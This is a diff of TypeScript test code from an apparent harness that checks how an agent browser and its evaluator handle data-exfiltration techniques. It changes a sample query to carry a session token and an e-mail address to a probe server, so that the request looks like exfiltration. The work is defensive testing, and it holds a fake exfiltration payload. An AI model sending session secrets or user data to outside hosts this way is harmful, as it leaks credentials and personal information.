@@ -56,7 +56,8 @@ async function freshPage(browser: AgentBrowser): Promise<{ page: Page; id: strin
 }
 
 const probe = (host: string, id: string, technique: string, query: string) => `${server.origin(host)}/v/${id}-${technique}?${query}`;
-const EXFIL_QUERY = `d=${encodeURIComponent('session=abc123')}`;
+/** Exfiltration-shaped to the evaluator too (a secret-named parameter, an e-mail address): an ordinary image query is a dependency fetch. */
+const EXFIL_QUERY = `session=abc123&u=${encodeURIComponent('me@corp.test')}`;
 
 async function runAll(page: Page, urlOf: (technique: string) => string): Promise<void> {
   for (const technique of TECHNIQUES) {
